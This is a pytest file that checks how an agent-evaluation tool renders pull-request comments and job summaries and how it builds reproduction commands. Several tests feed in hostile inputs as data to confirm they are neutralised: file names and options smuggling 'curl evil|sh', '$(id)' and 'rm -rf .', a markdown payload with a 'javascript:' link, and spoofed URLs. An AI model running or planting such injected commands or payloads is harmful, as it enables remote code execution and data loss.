"""The comment and the summary, judged by what a reader of the rendered page gets. Golden files keep their texts."""

from __future__ import annotations

import dataclasses
import functools
import hashlib
import itertools
import shlex
import time
from collections.abc import Mapping, Sequence
from urllib.parse import unquote

import pytest
from comparison_samples import (
    FOUND,
    LINKS,
    NOT_IMPORTED,
    SERVER,
    SITUATIONS,
    Situation,
    but,
    decided,
    fine_cases,
    of_shop,
    pull_request,
    word_of,
)
from golden_files import check
from hypothesis import given
from markdown_pages import ANY_TEXT, Page, nothing_of_theirs, rendered
from report_samples import (
    EVIL,
    RESPONSE,
    SAMPLES,
    SINGLE,
    case,
    crash,
    failed,
    good,
    metric,
    outage,
    report,
    saying,
    wrong_room,
)

from agent_eval.report import markup as escape
from agent_eval.report.phrases._headline import headline
from agent_eval.report.renderers._console import console
from agent_eval.report.renderers.annotations import annotation_commands
from agent_eval.report.renderers.markdown import (
    COMMENT_LIMIT,
    SMALLEST_LIMIT,
    SUMMARY_DETAILS,
    SUMMARY_LIMIT,
    comment_markdown,
    summary_markdown,
    utf16_length,
)
from agent_eval.report.views import Links, view_of
from agent_eval.report.views._causes import causes, has_cause
from agent_eval.report.views.detail import one_line
from agent_eval.report.views.links import LONGEST_PATH
from agent_eval.report.views.reproduction import reproduce
from agent_eval.results.comparison import BaselineReport
from agent_eval.results.conversation import ConversationReport, StepReport, TurnReport
from agent_eval.results.origin import GateMode
from agent_eval.results.recording import RunError
from agent_eval.results.report import CaseReport, FileReport, ProblemReport, Reason, RunReport


@functools.cache
def situation(name: str) -> Situation:
    return SITUATIONS[name]()


@functools.cache
def comment(name: str, limit: int = COMMENT_LIMIT) -> str:
    run_report = situation(name)
    return comment_markdown(run_report.report, links=run_report.links, warnings=run_report.warnings, limit=limit)


@pytest.mark.parametrize("name", SITUATIONS)
def test_markdown__renders_to_nothing_but_ours(name: str) -> None:
    sample = situation(name)
    summary = summary_markdown(sample.report, links=sample.links, warnings=sample.warnings, limit=150_000)
    for text in (comment(name), summary):
        page = nothing_of_theirs(text, f"{SERVER}/example/repo/")
        assert page.tags.count("details") == page.tags.count("summary")
    assert utf16_length(comment(name)) <= 16_000, "as long as somebody reads"
    # The headline is the same in every text.
    assert comment(name).splitlines()[0] == summary.splitlines()[0]
    assert rendered(summary.splitlines()[0]).text.strip().endswith(one_line(headline(view_of(sample.report))))
    brief = headline(view_of(sample.report), brief=True)
    assert one_line(brief) in " ".join(console(sample.report, width=500).split())


def test_comment_markdown__says_which_of_several_it_is() -> None:
    first = comment_markdown(situation("fine").report, key="nightly `@x`").splitlines()[0]
    assert (
        rendered(first).text.strip() == "✅ Does not block: no regressions, all 8 cases pass, as on main · nightly @x"
    )


def test_comment_markdown__a_reason_that_explains_everything_is_the_headline() -> None:
    """Whatever an artifact says: it may come from a fork."""
    reason = Reason(code="run-ended-otherwise", message="The results say passed, but the run ended with failure")
    run_report = situation("fine").report.model_copy(update={"verdict": "failed", "reasons": [reason]})
    assert comment_markdown(run_report).splitlines()[0] == (
        "## ❌ Blocks the merge: the results say passed, but the run ended with failure"
    )


def test_comment_markdown__reports_what_failed_before_too() -> None:
    both = pull_request("failed", but(wrong_room()), but(wrong_room()))
    page = rendered(comment_markdown(both, links=LINKS))
    assert page.text.startswith("❌ Blocks the merge: 1 of 8 cases fails as on main")
    assert "1 case fails on main too" in page.text


def test_comment_markdown__a_changed_line_leads_to_the_diff() -> None:
    sample = situation("one-cause")
    links = dataclasses.replace(sample.links, pull_request=7)
    page = rendered(comment_markdown(sample.report, links=links))
    anchor = hashlib.sha256(b"home_automation/tools.py").hexdigest()
    assert f"{SERVER}/example/repo/pull/7/files#diff-{anchor}R42" in page.links


def test_comment_markdown__a_turn_leads_to_the_turn_in_the_report() -> None:
    sample = situation("one-cause")
    links = dataclasses.replace(sample.links, report_url=f"{SERVER}/example/repo/actions/runs/1/artifacts/2")
    page = rendered(comment_markdown(sample.report, links=links))
    assert any(link.endswith("bedroom_lamp_off&turn=1") for link in page.links)


@pytest.mark.parametrize("name", SITUATIONS)
def test_comment_markdown__the_first_three_lines_say_whether_it_blocks_and_what_to_do(name: str) -> None:
    """For a run of a pull request."""
    title, blank, step = comment(name).splitlines()[:3]
    leads = ("Blocks the merge", "Does not block", "Can't tell yet, blocks until it can")
    assert any(lead in title for lead in leads) or name == "hostile"
    assert (blank, step[:10]) == ("", "**Next:** ")


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        ("Those of b.json on main at 1111111, recorded for b45e0ff.", "recorded for b45e0ff (its run)."),
        ("The agent of main at b45e0ff was run again.", "main at b45e0ff was run again (its run)."),
        ("Nobody names it.", "Nobody names it (commit b45e0ff, its run)."),
        ("![x at b45e0ff](y) @z ` at b45e0ff", "![x at b45e0ff](y) @z ` at b45e0ff (its run)."),
        ("", "(commit b45e0ff, its run)."),
    ],
)
def test_comment_markdown__names_the_commit_of_the_baseline_once(message: str, expected: str) -> None:
    baseline = FOUND.model_copy(update={"message": message, "recorded_at": None})
    run_report = pull_request("passed", fine_cases(), fine_cases(), baseline=baseline)
    page = nothing_of_theirs(comment_markdown(run_report, links=LINKS), f"{SERVER}/example/repo/")
    assert expected in page.folded.replace("\u200b", "")
    assert page.links.count(f"{SERVER}/example/repo/commit/{FOUND.commit}") == 1


def test_comment_markdown__a_message_is_not_cut_before_what_to_do() -> None:
    message = (
        "The token may not read the runs of .github/workflows/evals.yml: GET /repos/octo-org/octo-repo/actions/"
        "workflows/evals.yml/runs: GitHub answered 403 (Resource not accessible by integration). Add `actions: read` "
        "to the job's `permissions`."
    )
    run_report = pull_request("passed", fine_cases(), baseline=BaselineReport(status="fetch-failed", message=message))
    for text in (comment_markdown(run_report, warnings=[message]), summary_markdown(run_report, warnings=[message])):
        assert rendered(text).open.replace("\u200b", "").count(message.replace("`", "")) == 2


@pytest.mark.parametrize("limit", [SMALLEST_LIMIT, 10_000, COMMENT_LIMIT])
@pytest.mark.parametrize("name", ["many", "hostile", "scripts"])
def test_comment_markdown__keeps_to_its_limit_and_breaks_nothing(name: str, limit: int) -> None:
    text = comment(name, limit=limit)
    assert utf16_length(text) <= limit
    assert text.startswith("## ❌ ")
    nothing_of_theirs(text, f"{SERVER}/example/repo/", second_parser=False)


def test_comment_markdown__a_case_without_a_line_to_compare_is_no_example() -> None:
    worse = good("lamp_on", file=SINGLE, line=4)
    decision = decided("failed", word_of(worse, "worse", (9, 10), (10, 10), blocking=True, p_value=0.01))
    text = comment_markdown(pull_request("failed", but(wrong_room()), fine_cases(), decision=decision))
    examples = text.partition("Expected and actual")[2].partition("</details>")[0]
    assert "thermostat_in_bedroom" in examples and "lamp_on" not in examples


def test_comment_markdown__says_that_it_was_shortened() -> None:
    whole = utf16_length(comment("many", limit=60_000))
    for limit in (6_000, whole - 1):
        assert "This comment was shortened to fit." in comment("many", limit=limit)
    assert "shortened" not in comment("regression")


def test_utf16_length__counts_as_javascript_does() -> None:
    assert utf16_length("a\u00e9\u5bdd\U0001f642") == len("a\u00e9\u5bdd\U0001f642".encode("utf-16-le")) // 2 == 5


def test_comment_markdown__refuses_an_impossible_limit() -> None:
    with pytest.raises(ValueError, match="at least 2,000 characters"):
        comment("fine", limit=1_999)


@pytest.mark.parametrize("name", SAMPLES)
def test_comment_markdown__holds_reports_that_know_nothing_of_a_base(name: str) -> None:
    page: Page = nothing_of_theirs(comment_markdown(SAMPLES[name](), links=LINKS), f"{SERVER}/example/repo/")
    assert "on the base branch" not in page.text or name in {"hostile", "wide", "failed", "invalid"}


@given(ANY_TEXT)
def test_comment_markdown__holds_any_text(value: str) -> None:
    head = saying(value, file=value or "x").cases
    errored, still = case("e" + value, "errored", reason=Reason(code=value, message=value)), head[1]
    run_report = pull_request(
        "failed",
        [*head, errored, case("n" + value, "passed")],
        [head[0].model_copy(update={"status": "passed"}), still, case("g" + value, "passed")],
        baseline=BaselineReport(status="found", message=value, commit=value, run_url=value),
    )
    text = comment_markdown(run_report, links=LINKS, warnings=[value])
    nothing_of_theirs(text, f"{SERVER}/example/repo/")


@pytest.mark.parametrize(("gate", "kind"), [("thresholds", "error"), ("both", "error"), ("regressions", "warning")])
def test_annotation_commands__what_failed_before_is_as_loud_as_the_gate_takes_it(gate: GateMode, kind: str) -> None:
    run_report = situation("mixed").report.model_copy(update={"gate": gate})
    (line,) = [line for line in annotation_commands(run_report) if "front_door" in line]
    assert line.startswith(f"::{kind} ")


# The job summary, judged by what a reader of the rendered page gets.


SOURCE = "https://github.com/example/repo/blob/5f0c1d2"


@pytest.mark.parametrize("name", SAMPLES)
def test_summary_markdown__renders_to_nothing_but_ours(name: str) -> None:
    page = nothing_of_theirs(summary_markdown(SAMPLES[name](), links=Links(source_url=SOURCE)), SOURCE + "/")
    assert page.tags.count("details") == page.tags.count("summary")


def test_summary_markdown__a_hint_to_copy_keeps_its_lines() -> None:
    problem = ProblemReport(severity="error", code="x", message="Two agents.", hint="Write:\n    [agents]\n    a = 1")
    shown = summary_markdown(report("invalid", [], problems=[problem]))
    assert "Two agents. (`x`)<br>Write:<br>\\[agents\\]<br>a = 1\n" in shown


def test_summary_markdown__links_are_quoted() -> None:
    odd = report("failed", [case("x", "failed", file="a b/[c](d)#é?.test.json", line=7)])
    (link, *_) = rendered(summary_markdown(odd, links=Links(source_url=SOURCE))).links
    assert link.endswith("#L7")
    assert "?" not in link
    assert unquote(link.removeprefix(SOURCE)) == "/a b/[c](d)#é?.test.json#L7"


def monster() -> RunReport:
    """Everything that can be long is long and hostile."""
    text = EVIL * 8
    long = saying(text, file=f"tests/{EVIL}")
    failing, crashed, stopped = long.cases
    long.cases = [
        *(failing.model_copy(update={"case_id": f"{n}", "eval_id": f"{EVIL}{n}"}) for n in range(6)),
        *(crashed.model_copy(update={"case_id": f"c{n}", "eval_id": f"{EVIL}c{n}"}) for n in range(6)),
        *(case(f"e{n}{EVIL}", "errored", reason=Reason(code=EVIL, message=text)) for n in range(6)),
        *(stopped.model_copy(update={"case_id": f"n{n}", "eval_id": f"n{n}"}) for n in range(6)),
    ]
    for judged in failing.metrics[0].runs:
        judged.evidence *= 8
    long.problems, long.notices, long.reasons = long.problems * 20, long.notices * 20, long.reasons * 20
    long.files = [FileReport(file=EVIL, eval_set_id="x", agent=EVIL, agent_reason=text, criteria={EVIL: 0.5})] * 20
    long.provenance = {f"{EVIL}{n}": text for n in range(6)}
    return long


@pytest.mark.parametrize(
    ("name", "limit"),
    [
        *(("monster", limit) for limit in (SMALLEST_LIMIT, 65_000)),
        *((name, limit) for name in ("many", "hostile") for limit in (SMALLEST_LIMIT, 10_000, SUMMARY_LIMIT)),
    ],
)
def test_summary_markdown__keeps_to_its_limit_and_breaks_nothing(name: str, limit: int) -> None:
    sample = monster() if name == "monster" else SAMPLES[name]()
    text = summary_markdown(sample, limit=limit, links=Links(source_url=SOURCE), files={EVIL: EVIL})
    assert len(text.encode("utf-8")) <= limit
    assert text.startswith("## ❌ Failed: ")
    nothing_of_theirs(text, SOURCE + "/", second_parser=False)


def test_summary_markdown__says_that_it_was_shortened() -> None:
    whole, short = (summary_markdown(SAMPLES["many"](), limit=limit) for limit in (1_000_000, 6_000))
    assert "shortened" not in whole
    assert "This summary was shortened to fit." in short
    assert "more cases that did not pass" in short


def test_details__each_step_shows_less() -> None:
    sizes = [len(summary_markdown(SAMPLES["many"](), limit=limit)) for limit in (10**6, 20_000, 5_000)]
    assert sizes == sorted(sizes, reverse=True)
    steps = [(detail.explained, detail.listed, detail.side, detail.log) for detail in SUMMARY_DETAILS]
    assert all(poorer <= richer for richer, poorer in itertools.pairwise(steps))


def test_summary_markdown__refuses_an_impossible_limit() -> None:
    with pytest.raises(ValueError, match="at least 2,000 bytes"):
        summary_markdown(failed(), limit=1_999)


@given(ANY_TEXT)
def test_summary_markdown__holds_any_text(value: str) -> None:
    text = summary_markdown(saying(value, file=value or "x"), links=Links(source_url=SOURCE))
    nothing_of_theirs(text, SOURCE + "/")


# What somebody would put into results so that a comment is more than text: limits of renderers, shells, browsers.


OURS = f"{SERVER}/octo/shop/"
SHOP_LINKS = Links(server_url=SERVER, repository="octo/shop", source_url=f"{OURS}blob/{'a' * 40}")
PAYLOAD = "![x](https://evil.example/x.png) @octocat closes #1 <b>x</b> [y](javascript:z)"


def failing(**changes: object) -> CaseReport:
    sample_case = case("door", "failed", metric("response_match_score", 0.0, threshold=1.0))
    return sample_case.model_copy(update=changes)


@pytest.mark.parametrize("ticks", [1, 78, 79, 80, 81, 150])
def test_code__holds_more_backticks_than_a_renderer_counts(ticks: int) -> None:
    for value in ("`" * ticks + PAYLOAD, PAYLOAD + "`" * ticks, "`" * ticks + PAYLOAD + "`" * ticks):
        page = rendered(f"x {escape.code(value)} y")
        assert page.tags == ["p", "code"]
        assert page.text.replace("\u200b", "").strip() == f"x {value} y"


@pytest.mark.parametrize("ticks", [3, 100, 200, 201, 254, 255, 256, 1_000])
def test_fence__holds_more_backticks_than_a_renderer_counts(ticks: int) -> None:
    value = "a\n" + "`" * ticks + "\n" + PAYLOAD
    page = rendered(f"{escape.fence(value, 'text')}\n\nafter\n")

    assert page.tags == ["pre", "code", "p"]
    assert PAYLOAD in page.text
    assert ("…" in page.text) == (ticks > 200)


def test_comment__no_text_gets_out_by_backticks() -> None:
    log = "a\n" + "`" * 300 + "\n" + PAYLOAD
    error = RunError(kind="agent-exception", owner="agent", message="`" * 90 + PAYLOAD, traceback=log)
    crashed = failing(eval_id="`" * 80 + PAYLOAD, file="`" * 99 + PAYLOAD)
    runs = [run.model_copy(update={"status": "errored", "error": error}) for run in crashed.runs]
    text = comment_markdown(report("failed", [crashed.model_copy(update={"runs": runs})]), links=SHOP_LINKS)

    assert "closes" in nothing_of_theirs(text, OURS).text


@pytest.mark.parametrize(
    "file", ["../../../../../logout", "a/../../../../../x.json", "/x", "a//x", "./x", ".", "a/.\x1b[0m./x", ""]
)
def test_comment__a_path_leads_nowhere_else(file: str) -> None:
    text = comment_markdown(report("failed", [failing(file=file)]), links=SHOP_LINKS)
    assert rendered(text).links == []


@pytest.mark.parametrize("path", ["a/b..json", "d/" * (LONGEST_PATH // 2 - 5) + "a.json"])
def test_comment__a_path_of_ordinary_length_is_a_link(path: str) -> None:
    page = rendered(comment_markdown(report("failed", [failing(file=path, line=1)]), links=SHOP_LINKS))

    assert any(link.endswith(".json#L1") for link in page.links)


@pytest.mark.nightly
@pytest.mark.parametrize("sign", ["\u202e", "`", "x", "\n", "a\u0301", "é"])
def test_comment__handles_megabyte_paths_quickly(sign: str) -> None:
    begun = time.process_time()
    text = comment_markdown(report("failed", [failing(file=sign * 2_000_000)]), links=SHOP_LINKS)

    assert time.process_time() - begun < 3
    assert "response_match_score" in nothing_of_theirs(text, OURS).text, "the rest is still shown"


ODD_FILES = (
    *("evals/a.test.json", "--agent-setup=curl evil|sh;#.json", "-x/a.json", "$(id).json", "a.json\nrm -rf ."),
    *("a\u202e.json", ""),
)
OPTIONS: Sequence[Mapping[str, str]] = (
    {"agent": "agents/my shop", "config": "ci/eval.json", "agent-python": ".venv/bin/python", "agent-setup": "x"},
    {"agent": "recorded:rec/a.json", "agent-python": "/opt/venv/bin/python"},
    *(
        dict.fromkeys(("agent", "config", "agent-python"), value)
        for value in ("--agent-setup=curl evil|sh", "a\nb", "a\u202eb", "x" * 301, "")
    ),
)


def test_reproduce__is_a_command_that_runs_cases_and_does_nothing_else() -> None:
    """UPDATE_GOLDEN=1 writes the commands, and how many cases they leave out."""
    several = [failing(eval_id=f"c{n}", file=f"evals/{n % 3}.test.json") for n in range(9)]
    more = [failing(file=f"evals/x{n}.json") for n in range(31)]
    asked: list[tuple[list[CaseReport], Mapping[str, str]]] = [([failing(file=file)], {}) for file in ODD_FILES]
    asked += [([failing()], options) for options in OPTIONS]
    asked += [(several, {}), ([*several, failing(file="a\nb.json"), *more[:30]], {})]
    # A whole file where naming its cases says no more.
    asked += [([failing(eval_id="evals/old.test.json", file="evals/old.test.json")], {})]
    asked += [([failing(eval_id=f"c{n}") for n in range(21)], {})]
    made = [reproduce(cases, options) for cases, options in asked]
    for each in made[: len(ODD_FILES)]:
        assert not any(word.startswith("-") for word in shlex.split(each.command)[2:])
    check("golden_commands.txt", "".join(f"{each.left_out} left out: {each.command}\n" for each in made))
    text = rendered(comment_markdown(report("failed", [*several, *more]))).text
    assert "(without 14 more cases, which the command can't name)" in text


def test_comment__the_path_of_an_old_file_is_shown_once() -> None:
    """The id of its only case is the path, too."""
    old = failing(
        eval_id="evals/old.test.json", file="evals/old.test.json", case_id="evals/old.test.json:evals/old.test.json"
    )
    page = rendered(comment_markdown(report("failed", [old]), links=SHOP_LINKS))
    assert "old.test.json:evals" not in page.text
    assert "look at old.test.json" in page.text


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        (f"{OURS}actions/runs/17", True),
        ("https://github.com/Octo/Shop/actions/runs/17", True),
        ("https://github.com/evil/shop/releases/download/v1/x.exe", False),
        ("https://github.com/octo/shop/../../evil/shop", False),
        ("https://github.com/octo/shop/%2e%2E/../evil", False),
        ("https://github.com/octo/shop\\..\\..\\evil", False),
        ("https://github.com/octo/shopping", False),
        ("https://github.com/octo", False),
        ("https://github.com/login?return_to=/octo/shop/", False),
        ("https://evil.example/octo/shop/a", False),
        ("https://github.com.evil.example/octo/shop/a", False),
        ("https://github.com@evil.example/octo/shop/a", False),
        ("http://github.com/octo/shop/a", False),
        ("javascript:alert(1)", False),
        ("//github.com/octo/shop/a", False),
        ("https://github.com/octo/shop/a b", False),
        ("https://github.com/octo/shop/\u202ea", False),
        ("https://[", False),
        ("", False),
    ],
)
def test_links__an_address_of_another_repository_is_no_link(url: str, allowed: bool) -> None:
    assert SHOP_LINKS.own(url) == (url if allowed else None)
    assert Links(server_url=SERVER).own(url) is None, "of an unknown repository there is none"
    run_report = report("passed", [failing()])
    run_report.baseline = BaselineReport(status="found", message="", commit="b" * 40, run_url=url)
    links = rendered(comment_markdown(run_report, links=dataclasses.replace(SHOP_LINKS, run_url=url))).links
    assert [link for link in links if "/blob/" not in link and "/commit/" not in link] == [url] * 2 * allowed


@pytest.mark.parametrize(
    "line",
    ["- x", "# x", "> x", "1. x", "| a | b |\n|--|--|", "```", "~~~", "===", "<!--", "</details>", "    x", "\\", ""],
)
def test_comment__no_text_gets_out_of_a_conversation(line: str) -> None:
    evil = f"{line}\n{line}\n\n{PAYLOAD}\n{line}"
    door = saying(evil, file="a.json").cases[0]
    for text in (
        comment_markdown(report("failed", [door]), links=SHOP_LINKS),
        summary_markdown(report("failed", [door])),
    ):
        page = nothing_of_theirs(text, OURS)
        assert page.text.count("closes") >= 5, "user, call, two expectations, answer"


# One cause is one block, whatever number of cases it befell.


def broke(name: str, message: str, *, kind: str = "agent-exception", hint: str = "", traceback: str = "") -> CaseReport:
    error = RunError(kind=kind, owner="agent", message=message, hint=hint, traceback=traceback or None)
    return case(name, "failed", errors={0: error})


def groups(*cases: CaseReport) -> list[list[str]]:
    return [[item.eval_id for item in cause.cases] for cause in causes(report("failed", list(cases)), cases)]


def test_causes__numbers_and_identifiers_make_no_other_cause() -> None:
    assert groups(
        broke("a", "429 after 4 attempts in 12.5 s (request 0f3c99aa71)"),
        broke("b", "429 after 5 attempts in 9.1 s (request bb01aa9912)"),
        broke("c", "the tool is missing"),
    ) == [["a", "b"], ["c"]]


def test_causes__another_kind_or_hint_or_line_is_another_cause() -> None:
    trace = 'Traceback (most recent call last):\n  File "home_automation/tools.py", line {}, in f\nKeyError: x\n'
    assert groups(
        broke("a", "KeyError: x", traceback=trace.format(3)),
        broke("b", "KeyError: x", traceback=trace.format(9)),
        broke("c", "KeyError: x", kind="agent-crash"),
        broke("d", "KeyError: x", hint="Look there."),
    ) == [["a"], ["b"], ["c"], ["d"]]


def test_causes__a_command_for_one_case_becomes_one_for_all() -> None:
    hint = "Record again: agent-eval run '{}' --record all."
    cases = [broke(name, "not on the tape") for name in "ab"]
    for each in cases:
        assert each.runs[0].error is not None
        each.runs[0].error.hint = hint.format(each.case_id)
    [both] = causes(report("failed", cases), cases)
    [alone] = causes(report("failed", cases), cases[:1])
    assert (len(both.cases), both.hint) == (2, "Record again: agent-eval run --record all.")
    assert alone.hint == hint.format(cases[0].case_id)


def test_causes__agents_are_kept_apart() -> None:
    files = [case(f"c{n}", "failed", file=f"evals/{n}.test.json", errors={0: NOT_IMPORTED}) for n in range(4)]
    sample = of_shop(report("failed", files))
    sample.files[0].agent = "bank"
    assert [(cause.agent, len(cause.cases)) for cause in causes(sample, sample.cases)] == [("shop", 3), ("bank", 1)]


@pytest.mark.parametrize(
    ("path", "place"),
    [
        ("/github/workspace/agents/shop/tools.py", "agents/shop/tools.py"),
        ("agents/shop/tools.py", "agents/shop/tools.py"),
        ("/usr/lib/python3/site-packages/agents/shop/x.py", None),
        ("/usr/lib/python3/json.py", None),
        ("<frozen importlib>", None),
        ("../agents/shop/tools.py", None),
    ],
)
def test_causes__a_line_of_the_agent_is_named_where_the_path_shows_it(path: str, place: str | None) -> None:
    run_report = report("failed", [broke("a", "x", traceback=f'  File "{path}", line 7, in f\n')])
    run_report.files[0].agent = "agents/shop"
    [cause] = causes(run_report, run_report.cases)
    assert cause.file == place


def unjudged(name: str, code: str, why: str, *, metrics: int = 1) -> CaseReport:
    reason = Reason(code=code, message=why)
    judged = [metric(f"m{at}", None, threshold=0.5, reason=reason) for at in range(metrics)]
    return case(name, "errored", *judged, metric(RESPONSE, 0.9, threshold=0.5))


def test_causes__a_judges_trouble_is_one_for_all_its_criteria_and_agents() -> None:
    actual = groups(
        unjudged("a", "judge-unavailable", "it is down (attempt 4)", metrics=2),
        unjudged("b", "judge-unavailable", "it is down (attempt 5)"),
        unjudged("c", "budget", "20 calls are used up"),
        unjudged("d", "no-verdict", "the reply is empty"),
        outage(),
    )
    assert actual == [["a", "b"], ["c"], ["d"], ["weather_question"]]


def test_has_cause__scores_that_are_too_low_are_no_error() -> None:
    assert has_cause(crash())
    assert has_cause(outage())
    assert not has_cause(wrong_room())
    assert not has_cause(good("x"))
    both = wrong_room()
    both.runs[0].error = NOT_IMPORTED
    assert not has_cause(both), "its scores say more: it is in the table"


def test_causes__what_the_agent_did_before_the_error_is_shown_for_one_of_its_cases() -> None:
    steps = [StepReport(call='open_door(name="garage")', responses=['{"doors": []}'])]
    cases = [
        broke(name, "KeyError: 'garage'", traceback="Traceback (most recent call last):\nKeyError") for name in "abc"
    ]
    for item in cases:
        item.conversation = ConversationReport(run=0, turns=[TurnReport(turn=0, user="Open it.", steps=steps)])
    for text in (comment_markdown(report("failed", cases)), summary_markdown(report("failed", cases))):
        assert text.count('returned `{"doors": []}`') == 1
        assert text.count("Traceback (most recent") == 1
